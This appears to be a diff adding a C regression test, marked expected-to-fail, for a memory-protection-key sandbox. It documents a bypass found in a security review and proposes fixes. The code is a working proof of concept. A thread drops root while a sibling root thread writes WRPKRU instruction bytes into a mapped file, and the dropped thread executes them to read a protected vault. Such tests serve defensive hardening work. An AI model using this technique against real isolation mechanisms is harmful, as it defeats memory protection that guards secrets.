@@ -1,0 +1,99 @@
+// Attacker model B. The rule against files the process could change
+// (runtime/supervisor-exec.c changeable()) judges the calling thread's
+// credentials (/proc/<tid>/status). Credentials are per thread in Linux
+// (glibc's setresuid broadcasts to every thread; the system call does
+// not). A root process's main thread drops everything with the raw system
+// calls (setgroups, setresgid, setresuid 65534: every id nobody's, no
+// capability left, no saved root either), while another thread stays
+// root. The dropped thread maps a file root owns, mode 0644: judged as
+// nobody, it "cannot be changed", and is mapped after the scan. The root
+// thread then writes WRPKRU; ret into the file, which the private mapping
+// shows, and the dropped thread jumps to it with eax = ecx = edx = 0:
+// every key opens and the vault's page reads. The fifth review's
+// saved-root finding (attacks-review5-saved-root.c) proposes judging what
+// the caller can become (all its ids, CapPrm): that misses this case,
+// where the caller can become nothing and a sibling is root. Found in the
+// sixth review; reproduced in the QEMU guest (6.1).
+//
+// The fix should judge every thread of the process (and every process
+// sharing its memory) as the saved-root fix would the caller, or close
+// the root limitation itself (docs/hardening.md, "What it does not
+// defend": refuse writable opens of files mapped executable).
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clang -fpkey-compartments -O2 %s -o %t.on -lpthread
+// RUN: %run %t.on | FileCheck %s --check-prefix=ON
+// ON-NOT: ATTACK SUCCEEDED
+// ON: thread-creds: stopped by signal 9
+// ON: parent's vault intact: 1
+#include "Inputs/target.h"
+#include "Inputs/libc-wrpkru.h"
+
+#include <pthread.h>
+
+#define FILE_PATH "/tmp/r6tc-code"
+
+static int go[2], done[2];
+
+/* The thread that stays root: writes the file when told to. */
+static void *root_thread(void *unused) {
+  (void)unused;
+  char c;
+  if (read(go[0], &c, 1) != 1)
+    return NULL;
+  const unsigned char code[4] = {0x0f, 0x01, (unsigned char)(0xff ^ flip), 0xc3};
+  int w = open(FILE_PATH, O_WRONLY);
+  c = w >= 0 && pwrite(w, code, 4, 0x100) == 4 ? 'y' : 'n';
+  if (write(done[1], &c, 1) != 1)
+    return NULL;
+  return NULL;
+}
+
+static void attack(void) {
+  if (getuid() != 0) {
+    printf("setup: not root\n");
+    return;
+  }
+  static unsigned char page[4096];
+  memset(page, 0xcc, sizeof page);
+  int fd = open(FILE_PATH, O_RDWR | O_CREAT | O_TRUNC, 0644);
+  pthread_t t;
+  if (fd < 0 || write(fd, page, sizeof page) != sizeof page || close(fd) ||
+      pipe(go) || pipe(done) || pthread_create(&t, NULL, root_thread, NULL)) {
+    printf("setup: %s\n", strerror(errno));
+    return;
+  }
+  /* This thread alone becomes nobody, for good. */
+  if (syscall(SYS_setgroups, 0, NULL) || syscall(SYS_setresgid, 65534, 65534, 65534) ||
+      syscall(SYS_setresuid, 65534, 65534, 65534)) {
+    printf("setup: %s\n", strerror(errno));
+    return;
+  }
+  fd = open(FILE_PATH, O_RDONLY);
+  unsigned char *m =
+      fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
+  if (m == MAP_FAILED) {
+    report_read("a file a root thread wrote", NULL);
+    return;
+  }
+  printf("mapped by a thread with no privilege\n");
+  fflush(stdout);
+  char c = 'g';
+  if (write(go[1], &c, 1) != 1 || read(done[0], &c, 1) != 1 || c != 'y') {
+    report_read("a file a root thread wrote", NULL);
+    return;
+  }
+  static char out[48];
+  __asm__ volatile("xorl %%eax, %%eax\n\txorl %%ecx, %%ecx\n\txorl %%edx, %%edx\n\t"
+                   "call *%0\n\t"
+                   "movq %1, %%rsi\n\tmovq %2, %%rdi\n\tmovl $40, %%ecx\n\trep movsb"
+                   :
+                   : "r"(m + 0x100), "r"(vault_data), "r"(out)
+                   : "rax", "rcx", "rdx", "rsi", "rdi", "memory");
+  report_read("a file a root thread wrote", out);
+}
+
+int main(void) {
+  struct attack a[] = {{"thread-creds", attack}};
+  return run_attacks(a, 1);
+}
